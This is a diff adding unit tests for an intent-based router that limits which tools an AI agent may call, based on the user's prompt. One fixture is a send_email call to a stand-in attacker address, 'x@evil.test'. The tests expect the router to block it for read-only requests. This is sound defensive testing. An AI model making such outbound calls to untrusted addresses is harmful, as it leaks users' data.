@@ -1,0 +1,88 @@
+import { describe, expect, it } from 'vitest';
+import { capabilitiesForTask } from '../../../src/harness/capabilities.ts';
+import type { MediationContext } from '../../../src/harness/chokepoint.ts';
+import { BENCHMARK_REGISTRY } from '../../../src/harness/gate.ts';
+import { detectIntents, routeFor } from '../../../src/harness/mediators/intents.ts';
+import { createRouter } from '../../../src/harness/mediators/router.ts';
+
+function contextFor(prompt: string): MediationContext {
+  return {
+    prompt,
+    registry: BENCHMARK_REGISTRY,
+    capabilities: capabilitiesForTask({ requiredTools: [] }, 'workspace'),
+    sqlSchema: {},
+    history: [],
+  };
+}
+
+const sendEmail = { tool: 'send_email', args: { to: 'x@evil.test', subject: 's', body: 'b' } };
+
+describe('intent classification', () => {
+  it.each([
+    ['What did Marco say in his latest email about the delivery delay?', ['read_email']],
+    ['Reply to the email from Marco and confirm Tuesday.', ['send_email', 'read_email']],
+    ['Summarise /reports/q3.txt in three bullet points.', ['read_files']],
+    ['Save a summary of /reports/q3.txt to /notes/q3-summary.txt.', ['write_files', 'read_files']],
+    ['How many orders did Acme place in March?', ['query_database']],
+    ['Mark invoice 7 as paid in the database.', ['update_database', 'query_database']],
+  ])('%s -> %j', (prompt, intents) => {
+    expect(detectIntents(prompt).map((m) => m.intent.name)).toEqual(intents);
+  });
+
+  it('is deterministic and reads nothing but the prompt', () => {
+    const prompt = 'Look up the total of invoice 12 in the database and email it to finance@northwind.test.';
+    expect(routeFor(prompt, 'multi')).toEqual(routeFor(prompt, 'multi'));
+  });
+
+  it('falls back to read-only tools when nothing is detected', () => {
+    const route = routeFor('Hello!', 'single');
+    expect(route.intents).toEqual([]);
+    expect([...route.tools].sort()).toEqual(['execute_sql_query', 'read_email', 'read_file']);
+    expect(route.sqlWrites).toBe(false);
+  });
+});
+
+describe('router (single intent)', () => {
+  const router = createRouter();
+
+  it('refuses send_email on a read-only intent', () => {
+    const decision = router.decide(sendEmail, contextFor('What did Marco say in his latest email about the delivery delay?'));
+    expect(decision).toMatchObject({ by: 'router', allowed: false, reason: 'outside_route' });
+    expect((decision as { detail: string }).detail).toContain('read_email');
+  });
+
+  it('allows the tools of the detected intent', () => {
+    const context = contextFor('Reply to the email from Marco and confirm Tuesday.');
+    expect(router.decide(sendEmail, context)).toMatchObject({ allowed: true, reason: 'in_route' });
+    expect(router.decide({ tool: 'read_email', args: {} }, context)).toMatchObject({ allowed: true });
+    expect(router.decide({ tool: 'write_file', args: { path: '/a', content: '' } }, context)).toMatchObject({ allowed: false });
+  });
+
+  it('keeps only the best intent: a multi-tool request loses a tool', () => {
+    const context = contextFor('Look up the total of invoice 12 in the database and email it to finance@northwind.test.');
+    // query_database matches two rules ("look up" + a database noun), send_email one.
+    expect(routeFor(context.prompt, 'single').intents).toEqual(['query_database']);
+    expect(router.decide({ tool: 'execute_sql_query', args: { query: 'SELECT 1' } }, context)).toMatchObject({ allowed: true });
+    expect(router.decide(sendEmail, context)).toMatchObject({ allowed: false, reason: 'outside_route' });
+  });
+});
+
+describe('router-multi', () => {
+  const router = createRouter({ mode: 'multi' });
+
+  it('allows the union of every detected intent', () => {
+    const context = contextFor('Look up the total of invoice 12 in the database and email it to finance@northwind.test.');
+    expect(router.name).toBe('router-multi');
+    expect(router.decide(sendEmail, context)).toMatchObject({ by: 'router-multi', allowed: true });
+    expect(router.decide({ tool: 'execute_sql_query', args: { query: 'SELECT 1' } }, context)).toMatchObject({ allowed: true });
+    expect(router.decide({ tool: 'write_file', args: { path: '/a', content: '' } }, context)).toMatchObject({ allowed: false });
+  });
+
+  it('still refuses send_email for a read-only request', () => {
+    expect(router.decide(sendEmail, contextFor('Summarise /reports/q3.txt in three bullet points.'))).toMatchObject({ allowed: false });
+  });
+
+  it('validates its options', () => {
+    expect(() => createRouter({ mode: 'all' as never })).toThrow();
+  });
+});
